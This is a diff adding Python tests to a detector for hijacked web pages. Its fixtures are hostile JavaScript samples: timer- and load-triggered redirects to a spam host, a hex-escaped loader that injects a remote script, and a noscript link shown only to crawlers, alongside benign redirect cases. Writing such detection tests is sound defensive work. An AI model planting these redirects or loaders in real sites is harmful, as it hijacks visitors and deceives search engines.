@@ -107,3 +107,54 @@ def test_moved_notices_mobile_redirects_and_linked_sites_are_no_hijack():
     body = ARTICLE + '<p>原文链接：<a href="https://www.partner-daily.com/a/1.html">合作媒体</a></p>'
     a = cleaned('location.href="https://www.partner-daily.com/a/1.html";', body=body)
     assert not a.hijacked
+
+
+def test_a_redirect_off_the_site_a_few_seconds_after_load():
+    # v8: the address is computed at run time (the page's host appended) and the navigation waits
+    # on a timer or the load event, so no constant redirect statement is there to read
+    timer = (f'setTimeout(function(){{window.location.replace("https://{SPAM_HOST}/?src="'
+             '+encodeURIComponent(location.hostname));},3000);')
+    onload = f'window.addEventListener("load",function(){{var t="https://{SPAM_HOST}/go";top.location.href=t+"?"+Date.now();}});'
+    for code in (timer, onload):
+        a = cleaned(code, body=ARTICLE)
+        assert a.hijacked and "script (run): every visitor sent to a site the page never links" in exits(a)
+        assert "城乡环境综合整治" in a.text
+
+
+def test_a_delayed_redirect_to_the_sites_own_mobile_host_or_a_linked_partner_is_no_hijack():
+    a = cleaned('setTimeout(function(){location.replace("https://m.qingshan.gov.cn/info/2.htm");},1500);', body=ARTICLE)
+    assert not a.hijacked
+    body = ARTICLE + '<p>原文链接：<a href="https://www.partner-daily.com/a/1.html">合作媒体</a></p>'
+    a = cleaned('setTimeout(function(){location.href="https://www.partner-daily.com/a/1.html?r="+Math.random();},2000);',
+                body=body)
+    assert not a.hijacked
+    # a moved notice that counts down: no article of its own
+    a = cleaned('setTimeout(function(){location.href="https://www.qingshan-new.cn/?t="+Date.now();},3000);',
+                body="<p>本站已迁移至新域名，3秒后自动跳转。</p>")
+    assert not a.hijacked
+
+
+LOADER = ('(function(w,d){{var k=["\\x73\\x63\\x72\\x69\\x70\\x74",{host}];var e=d.createElement(k[0]);'
+          'e.async=true;e.src="https://"+k[1]+"/c.js?t="+(+new Date);d.body.appendChild(e);}})(window,document);')
+
+
+def _hex(text: str) -> str:
+    return '"' + "".join(f"\\x{ord(c):02x}" for c in text) + '"'
+
+
+def test_a_hidden_loader_whose_site_only_crawlers_see_linked_in_noscript():
+    # v8 form written afresh: the loader spells its host in escapes; the <noscript> after the
+    # article gives scriptless visitors (crawlers) a worded link to the same site
+    code = LOADER.format(host=_hex(SPAM_HOST))
+    body = ARTICLE + f'<noscript><p><a href="https://{SPAM_HOST}/">盈乐国际官方入口</a></p></noscript>'
+    a = cleaned(code, body=body)
+    assert a.hijacked and any(f.kind == "spam_script" and SPAM_HOST in f.evidence for f in a.findings)
+    assert "盈乐国际" not in everything(a) and "城乡环境综合整治" in a.text
+
+
+def test_a_widget_that_names_its_site_plainly_and_a_hidden_loader_without_a_link_are_no_hijack():
+    widget = LOADER.format(host='"cdn.weather-widget.com"')
+    body = ARTICLE + '<noscript><a href="https://www.weather-widget.com/">天气预报插件</a></noscript>'
+    assert not cleaned(widget, body=body).hijacked
+    # escapes, but nothing offered to crawlers: judged as before (ad-recovery snippets hide so)
+    assert not cleaned(LOADER.format(host=_hex("cdn.adrecover.net")), body=ARTICLE).hijacked
